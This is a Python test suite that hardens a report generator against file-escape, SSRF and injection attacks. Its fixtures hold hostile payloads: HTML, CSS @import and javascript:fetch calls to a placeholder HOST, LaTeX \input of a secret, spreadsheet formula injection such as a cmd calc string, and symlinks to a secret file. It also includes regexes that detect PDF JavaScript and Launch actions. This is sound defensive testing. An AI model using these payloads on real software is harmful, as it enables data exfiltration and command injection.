"""No input makes reportgen fetch an address or read another file."""

from __future__ import annotations

import io
import json
import os
import re
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

import pytest

from reportgen.design.logo import UnusableLogoError, read_logo
from reportgen.errors import TemplateError
from reportgen.pipeline import BuildOptions, build_brief, load_organization
from reportgen.render.html.page_guard import refuse_loading, refuse_loading_sheet
from reportgen.render.pdf.locked_fetcher import locked_fetcher
from tests.hardening.listener import SECRET, Trap, listening
from tests.hardening.vectors import FILE_NAMES, LOGOS, PAGES, REFUSED_LOGOS, SHEETS, TEXTS

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    """Listen while a test runs; any request or disclosure of the secret fails the test."""
    with listening(tmp_path) as found:
        yield found
    assert found.asked == []


def _club(folder: Path, name: str, *, where: str) -> Path:
    """Return a configuration with a file name in one of the keys that take one."""
    club = folder / "club"
    club.mkdir()
    (club / "link.csv").symlink_to(folder / "secret.txt")
    (club / "linked").symlink_to(folder)
    os.mkfifo(club / "pipe.csv")
    (club / "data.csv").write_text("month,n\n2020-01,1\n", encoding="utf-8")
    text = {
        "metric": f"metrics: {{a: {{kind: level, file: {name}, date: month, value: n}}}}\n",
        "campaigns": f"campaigns: {{file: {name}, name: a, date: month, value: n}}\n",
        "survey": f"surveys: [{{id: s, question: Why?, file: {name}}}]\n",
        "references": f"brief: {{references: {name}}}\n",
        "brand": "",
    }[where]
    more = f", brand: {name}" if where == "brand" else ""
    path = club / "club.yaml"
    path.write_text(
        f"reportgen: 1\norganization: {{name: River Club{more}}}\n{text}", encoding="utf-8"
    )
    return path


@pytest.mark.parametrize("where", ["metric", "campaigns", "survey", "references", "brand"])
@pytest.mark.parametrize("name", FILE_NAMES)
def test_no_file_name_escapes_the_folder(name: str, where: str, tmp_path: Path, trap: Trap) -> None:
    given = trap.armed(FILE_NAMES[name])
    path = _club(tmp_path, given if given.startswith('"') else f'"{given}"', where=where)
    loaded = load_organization(path)
    assert loaded.dataset is None
    codes = {item.code for item in loaded.diagnostics}
    assert codes & {*(f"DAT00{n}" for n in range(1, 10)), "CFG004"}, codes
    messages = " ".join(str(item) for item in loaded.diagnostics)
    assert SECRET not in messages
    assert "777777" not in messages


@pytest.mark.parametrize("name", LOGOS)
def test_a_logo_is_reduced_to_its_shapes(name: str, tmp_path: Path, trap: Trap) -> None:
    path = tmp_path / "logo.svg"
    path.write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
        f"viewBox='0 0 9 9'>{trap.armed(LOGOS[name])}<path d='M0 0h9v9z'/></svg>",
        encoding="utf-8",
    )
    address = read_logo(path).address
    kept = address.replace("http://www.w3.org/2000/svg", "").lower()
    assert "path" in kept
    for word in ("http", "file:", "script", "foreign", "iframe", "import", "onload", "feimage"):
        assert word not in kept, kept
    _drawn(f'<img alt="a" src="{address}">')


def _drawn(page: str) -> bytes:
    from weasyprint import HTML

    document = HTML(string=f"<html lang=en><title>a</title>{page}", url_fetcher=locked_fetcher())
    return bytes(document.write_pdf())


@pytest.mark.parametrize("name", REFUSED_LOGOS)
def test_an_invalid_logo_is_refused(name: str, tmp_path: Path, trap: Trap) -> None:
    path = tmp_path / "logo.svg"
    content = trap.armed(REFUSED_LOGOS[name]).encode()
    if name == "wide-png":
        content = b"\x89PNG\r\n\x1a\n" + struct.pack(
            ">I4sII5B", 13, b"IHDR", 20_000, 20_000, 8, 2, 0, 0, 0
        )
    path.write_bytes(content)
    with pytest.raises(UnusableLogoError) as raised:
        read_logo(path)
    assert SECRET not in str(raised.value)


@pytest.mark.parametrize("name", PAGES)
def test_no_page_of_custom_templates_loads_or_runs_anything(name: str, trap: Trap) -> None:
    page = f"<!doctype html><html lang=en><body>{trap.armed(PAGES[name])}</body></html>"
    with pytest.raises(TemplateError) as raised:
        refuse_loading(page, "letter/brief.html.j2", scripts=frozenset())
    assert {item.code for item in raised.value.diagnostics} == {"TPL009"}


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.filterwarnings("ignore")  # warnings of WeasyPrint on these pages are irrelevant
def test_typesetting_fetches_nothing_even_without_the_guard(name: str, trap: Trap) -> None:
    from weasyprint.urls import FatalURLFetchingError

    try:
        content = _drawn(trap.armed(PAGES[name]))
    except (Exception, FatalURLFetchingError):  # noqa: BLE001  # what can't be drawn leaks nothing
        return
    assert SECRET.encode() not in _unpacked(content)


@pytest.mark.parametrize("name", SHEETS)
def test_no_stylesheet_of_custom_templates_loads_anything(name: str, trap: Trap) -> None:
    with pytest.raises(TemplateError) as raised:
        refuse_loading_sheet(trap.armed(SHEETS[name]), "css/letter.css")
    assert raised.value.diagnostics[0].code == "TPL009"


@pytest.mark.parametrize(
    "page",
    [
        "<a href='https://example.org/a?b#c'>a</a><a href='#refs'>b</a>",
        "<a href='editorial.pdf'>c</a>",
        "<a href='mailto:a@example.org'>a</a> <a href='tel:+1'>b</a>",
        "<img alt='a' src='data:image/png;base64,iVBORw0KGgo='>",
        "<svg><use href='#a'/><rect fill='url(#b)' width='9' height='9'/></svg>",
        "<style>p { color: red; background: url('data:image/png;base64,iVBORw0KGgo=') }</style>",
        '<script type=\'application/json\'>{"a": "<img src=x>"}</script><script>shipped()</script>',
        "<link rel=canonical href='https://example.org/a'>",
        "<p title='only: words' data-q='javascript:x'>only: words, url(http://example.org)</p>",
    ],
)
def test_legitimate_pages_are_not_refused(page: str) -> None:
    refuse_loading(page, "letter/brief.html.j2", scripts=frozenset(("shipped()",)))


def test_the_fetcher_returns_four_image_types_and_nothing_else() -> None:
    from weasyprint.urls import FatalURLFetchingError

    fetcher = locked_fetcher({"font": b"bytes"})
    assert fetcher.fetch("font").read() == b"bytes"
    svg = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"
    assert b"<svg" in fetcher.fetch(svg).read()
    for address in (
        "data:text/html,<script>",
        "data:image/png;base64,JSFQUy1BZG9iZS0zLjA=",
        "data:image/svg+xml,<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>",
        "data:image/tiff;base64,SUkqAAgAAAA=",
        "data:text/css,p{}",
        "DATA:,x",
        "data:image/png;base64," + "A" * 6_000_000,
        "blob:x",
        "about:blank",
        "",
    ):
        with pytest.raises(FatalURLFetchingError):
            fetcher.fetch(address)


@pytest.mark.parametrize(("side", "words"), [(6_000, "6000 by 6000"), (20_000, "far too many")])
def test_an_image_with_too_many_pixels_is_refused_by_its_header(side: int, words: str) -> None:
    from base64 import b64encode

    from weasyprint.urls import FatalURLFetchingError

    rows = zlib.compress(b"\x00" * 100)
    head = struct.pack(">II5B", side, side, 8, 2, 0, 0, 0)
    chunks = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    )
    picture = b64encode(b"\x89PNG\r\n\x1a\n" + chunks).decode()
    with pytest.raises(FatalURLFetchingError, match=words):
        locked_fetcher().fetch(f"data:image/png;base64,{picture}")


def _unpacked(content: bytes) -> bytes:
    """Return a file's bytes and those of all its compressed parts."""
    if content.startswith(b"%PDF"):
        import pikepdf

        found = [content]
        with pikepdf.open(io.BytesIO(content)) as pdf:
            for item in pdf.objects:
                if isinstance(item, pikepdf.Stream):
                    try:
                        found.append(item.read_bytes())
                    except pikepdf.PdfError:
                        found.append(item.read_raw_bytes())
                else:
                    found.append(str(item).encode())
        return b"\n".join(found)
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return b"\n".join(archive.read(name) for name in archive.namelist())
    return content


_CLUB = """\
reportgen: 1
organization:
  name: {0}
  short_name: {1}
  description: {2}
  brand: brand.yml
brief:
  title: {3}
  authors: [{{name: {4}, affiliation: {5}, degrees: {6}, corresponding: true, email: a@b.org}}]
  keywords: [{7}, {8}]
  abstract: {9}
  sections:
    - {{heading: {10}, text: {11}}}
    - {{heading: Outcomes, text: {12}, outcomes: [campaigns]}}
  references: references.bib
  acknowledgments: {13}
  conflicts_of_interest: {14}
  funding: {15}
  data_availability: {16}
  abbreviations: {{A: {17}}}
  copyright: {18}
  license: {19}
  citation: {20}
  edited_by: {21}
committee:
  ranks: [fellow]
  members: [{{id: a, name: {22}, rank: fellow, groups: [x], joined: 2019-01}}]
  structures: [{{id: now, from: 2019-01, roles: [{{title: {23}, holders: [a], lead: true}}]}}]
intervention: {{on: 2019-07-01, label: {24}}}
metrics:
  a: {{label: {25}, kind: level, file: data.csv, date: month, value: n, unit: {26}}}
campaigns: {{file: campaigns.csv, name: name, date: month, value: n}}
events: [{{on: 2019-09-01, what: {27}}}]
milestones: [{{on: 2019-10-01, what: {28}}}]
surveys: [{{id: s, question: {29}, paired: {{both: 2, gained: 6, lost: 0, neither: 1}}}}]
testimonials: [{{text: {30}, who: {31}}}]
goals:
  - id: g
    specific: {32}
    measurable: {{quantity: a.observed.latest.value, target: 500, direction: at_least}}
    achievable: {0}
    relevant: {1}
    time_bound: 2020-06-30
    owner: {2}
"""
_BIB = r"""
@article{a, title = {<img src='http://HOST/b1'> \input{SECRET}}, author = {<script>, A.},
  journal = {\include{SECRET}}, url = {javascript:fetch('http://HOST/b2')}, year = {2020}}
@article{b, title = {B}, author = {B, B.}, doi = {10.1/x"><img src=http://HOST/b3>},
  url = {file://SECRET}, note = {<link rel=attachment href=file://SECRET>}, year = {2020}}
@misc{c, title = {C}, howpublished = {\url{data:text/html,<script>1</script>}}, year = {2020}}
"""
_BRAND = """\
color: {primary: "#205080"}
logo: logo.svg
typography:
  fonts: [{family: "x'; } @import url(http://HOST/y1.css); p { a: '", source: google}]
  base: "x'; } @import url(http://HOST/y2.css); p { a: '"
  headings: {family: "</style><script>fetch('http://HOST/y3')</script>"}
"""


def _hostile(folder: Path, trap: Trap) -> Path:
    """Write an organization with a payload in every text, cell, reference and image."""
    texts = [json.dumps(trap.armed(text)) for text in TEXTS]
    path = folder / "club.yaml"
    path.write_text(_CLUB.format(*texts), encoding="utf-8")
    rows = "".join(f"{2018 + n // 12}-{1 + n % 12:02},{100 + n * n}\n" for n in range(30))
    (folder / "data.csv").write_text(f"month,n\n{rows}", encoding="utf-8")
    cells = [text.replace('"', '""').replace("\n", " ") for text in map(trap.armed, TEXTS[:20])]
    cells += ['=HYPERLINK(""http://HOST/c1"")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1"]
    listed = "".join(
        f'"{cell}",2019-{1 + n % 12:02}-{1 + n % 28:02},{50 + n}\n' for n, cell in enumerate(cells)
    )
    (folder / "campaigns.csv").write_text(f"name,month,n\n{trap.armed(listed)}", encoding="utf-8")
    (folder / "references.bib").write_text(trap.armed(_BIB), encoding="utf-8")
    (folder / "brand.yml").write_text(trap.armed(_BRAND), encoding="utf-8")
    inside = trap.armed("".join(LOGOS.values()))
    (folder / "logo.svg").write_text(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
        f"viewBox='0 0 9 9'>{inside}<path d='M0 0h9v9z'/></svg>",
        encoding="utf-8",
    )
    return path


def test_a_brief_full_of_payloads_is_built_and_none_has_an_effect(
    tmp_path: Path, trap: Trap
) -> None:
    folder = tmp_path / "club"
    folder.mkdir()
    path = _hostile(folder, trap)
    before = {item: item.read_bytes() for item in folder.rglob("*") if item.is_file()}
    formats = ("html", "pdf", "docx", "jats", "md", "txt", "share")
    result = build_brief(path, BuildOptions(output=tmp_path / "out", formats=formats))
    assert result.is_made, result.diagnostics
    assert {item: item.read_bytes() for item in folder.rglob("*") if item.is_file()} == before
    for file in result.files:
        content = _unpacked(file.read_bytes())
        assert SECRET.encode() not in content, file.name
        if file.suffix == ".html":
            _hold_harmless(content.decode())
        elif file.suffix == ".pdf":
            assert not re.search(rb"/(JavaScript|JS|Launch|SubmitForm|GoToR|ImportData)\b", content)
            for address in re.findall(rb"/URI \(([^)]*)\)", content):
                assert re.match(rb"https?:|mailto:|tel:", address), address
        elif file.suffix == ".docx":
            for address in re.findall(rb'Target="([^"]+)"[^>]*External', content):
                assert re.match(rb"https?:|mailto:|tel:", address), address
        elif file.suffix == ".md":
            for address in re.findall(r"(?<!\\)\]\(<?([^)>]+)", content.decode()):
                assert not re.match("javascript|vbscript|data|file", address.strip().lower())


def _hold_harmless(page: str) -> None:
    """Check a finished page with the guard that custom pages have to pass."""
    body = re.sub(r"(?s)<style>.*?</style>", "", page, count=1)
    scripts = frozenset(
        text.strip()
        for text in re.findall(r"(?s)<script>(.*?)</script>", body)
        if "fetch(" not in text
    )
    refuse_loading(body, "editorial/brief.html.j2", scripts=scripts)
